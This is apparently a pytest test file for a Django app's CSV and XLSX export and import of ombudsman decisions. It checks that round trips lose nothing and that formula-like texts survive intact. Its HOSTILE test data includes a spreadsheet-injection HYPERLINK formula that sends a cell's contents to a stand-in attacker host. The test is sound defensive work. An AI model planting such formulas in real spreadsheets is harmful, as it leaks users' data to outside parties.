"""Export, then import into an empty database with the same councils: every field of every
decision and recommendation comes back, and so does every figure of every year. Runs on SQLite
and on PostgreSQL, so through both writers."""

import csv
import datetime as dt

import pytest
from django.utils import timezone

from decisions.choices import ComplianceStatus, Outcome, RecommendationKind, ReportType
from decisions.models import Decision, Recommendation
from decisions.services.exports import decisions_export
from decisions.services.imports import decisions_import
from decisions.statistics import live_year_table
from ombudsman.years import DATA_FIRST_YEAR, ReportingYear

from .factories import DecisionFactory, RecommendationFactory

pytestmark = pytest.mark.django_db
D = dt.date


@pytest.fixture
def mixed(world):
    """The small world, plus what it lacks: sample decisions, a decision to be published in the
    future, one not to be published with recommendations, free text that CSV must quote, and no
    received date."""
    today = timezone.localdate()
    ambridge, felpersham = world["ambridge"], world["felpersham"]
    sample = DecisionFactory(
        reference="22 800 001",
        council=ambridge,
        decision_date=D(2022, 8, 1),
        received_date=D(2022, 3, 1),
        is_sample=True,
        remedied_by_authority=True,
        published_on=D(2022, 9, 1),
    )
    RecommendationFactory(
        decision=sample,
        kind=RecommendationKind.FINANCIAL_REDRESS,
        amount="1250.50",
        due_date=D(2022, 9, 1),
        status=ComplianceStatus.COMPLIED_LATE,
        outcome_date=D(2022, 9, 20),
    )
    DecisionFactory(
        reference="22 800 002",
        council=felpersham,
        outcome=Outcome.NOT_UPHELD,
        decision_date=D(2022, 8, 2),
        is_sample=True,
        published_on=None,
        summary="",
    )
    future = DecisionFactory(
        reference="22 800 003",
        council=felpersham,
        decision_date=today - dt.timedelta(days=3),
        received_date=None,
        report_type=ReportType.REPORT,
        published_on=today + dt.timedelta(days=60),
        summary='Line one\nline two, "quoted", a tab\there, a back\\slash and never.',
        subcategory="",
    )
    RecommendationFactory(decision=future, status=ComplianceStatus.PENDING)
    hidden = DecisionFactory(
        reference="22 800 004",
        council=ambridge,
        decision_date=D(2022, 11, 1),
        received_date=D(2022, 6, 1),
        published_on=None,
    )
    RecommendationFactory(
        decision=hidden,
        kind=RecommendationKind.TRAINING,
        due_date=D(2022, 12, 1),
        status=ComplianceStatus.NOT_COMPLIED,
        outcome_date=D(2023, 1, 5),
    )
    assert Decision.objects.filter(is_sample=True).exists()
    assert Decision.objects.filter(is_sample=False).exists()
    assert Decision.objects.filter(published_on__isnull=True).count() == 3
    assert Decision.objects.filter(published_on__gt=today).exists()
    assert Decision.objects.public().exists()
    return world


def _decisions() -> list[dict]:
    fields = [f.attname for f in Decision._meta.concrete_fields if f.attname != "id"]
    return list(Decision.objects.order_by("reference").values(*fields))


def _recommendations() -> list[dict]:
    fields = [f.attname for f in Recommendation._meta.concrete_fields]
    fields = ["decision__reference", *(f for f in fields if f not in ("id", "decision_id"))]
    return list(
        Recommendation.objects.order_by("decision__reference", "due_date", "id").values(*fields)
    )


def _years() -> list[ReportingYear]:
    current = ReportingYear.current().start_year
    return [ReportingYear(y) for y in range(DATA_FIRST_YEAR, current + 1)]


def _everything() -> tuple:
    return _decisions(), _recommendations(), [live_year_table(y) for y in _years()]


def _paths(tmp_path, suffix):
    decisions = tmp_path / f"decisions.{suffix}"
    return decisions, (tmp_path / "recommendations.csv" if suffix == "csv" else None)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_database_loses_nothing(mixed, tmp_path, suffix):
    before = _everything()
    decisions_path, recommendations_path = _paths(tmp_path, suffix)
    counts = decisions_export(
        decisions_path=decisions_path, recommendations_path=recommendations_path
    )
    assert counts == (len(before[0]), len(before[1]))
    Recommendation.objects.all().delete()
    Decision.objects.all().delete()
    assert live_year_table(ReportingYear(2022))["england"]["decisions"] == 0
    summary = decisions_import(
        decisions_path=decisions_path, recommendations_path=recommendations_path
    )
    assert (summary.decisions_created, summary.recommendations_created) == counts
    after = _everything()
    assert after[0] == before[0]
    assert after[1] == before[1]
    assert after[2] == before[2]


def test_the_export_writes_sample_and_never(mixed, tmp_path):
    path, recommendations = _paths(tmp_path, "csv")
    decisions_export(decisions_path=path, recommendations_path=recommendations)
    with path.open() as handle:
        rows = {r["reference"]: r for r in csv.DictReader(handle)}
    assert [rows["22 800 00" + n]["sample"] for n in "1234"] == ["yes", "yes", "no", "no"]
    assert [rows["22 800 00" + n]["published_on"] for n in "1234"] == [
        "2022-09-01",
        "never",
        str(timezone.localdate() + dt.timedelta(days=60)),
        "never",
    ]


def test_an_export_imported_over_itself_changes_nothing(mixed, tmp_path):
    before = _everything()
    decisions_path, recommendations_path = _paths(tmp_path, "csv")
    decisions_export(decisions_path=decisions_path, recommendations_path=recommendations_path)
    summary = decisions_import(
        decisions_path=decisions_path, recommendations_path=recommendations_path
    )
    assert summary.decisions_updated == len(before[0]) and summary.decisions_created == 0
    assert summary.recommendations_replaced == summary.recommendations_created == len(before[1])
    assert _everything() == before


# Texts a spreadsheet would take for formulas, and texts near them that must come back as they
# were: quotes before a formula character, a lone quote, a carriage return and OOXML's own escape
# written literally (an XLSX holds a return as `_x000D_`).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rbegins with a carriage return",
    "=",
    "-",
    "'tis a quote first",
    "'=a quoted formula",
    "''+two quotes",
    "'",
    "#N/A",
    "a return\r\ninside, _x000D_ and _x005F_ written out",
)


@pytest.fixture
def hostile(mixed):
    for n, text in enumerate(HOSTILE):
        decision = DecisionFactory(
            reference=f"22 801 {n:03d}",
            council=mixed["ambridge"],
            decision_date=D(2022, 8, 1),
            # Trailing spaces are cut from every cell an import reads, so none are stored here.
            # The category is a heading of the controlled list (decisions.service_areas), which
            # the import checks; the subcategory and the summary carry the hostile text.
            category="Housing",
            subcategory=text[:12].rstrip(),
            summary=text,
        )
        RecommendationFactory(decision=decision, description=text)
    return mixed


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formula_like_texts_come_back_exactly(hostile, tmp_path, suffix):
    before = _everything()
    stored = {d["summary"] for d in before[0]} | {r["description"] for r in before[1]}
    assert stored >= set(HOSTILE)
    decisions_path, recommendations_path = _paths(tmp_path, suffix)
    decisions_export(decisions_path=decisions_path, recommendations_path=recommendations_path)
    Recommendation.objects.all().delete()
    Decision.objects.all().delete()
    decisions_import(decisions_path=decisions_path, recommendations_path=recommendations_path)
    after = _everything()
    assert after[0] == before[0]
    assert after[1] == before[1]
    assert after[2] == before[2]
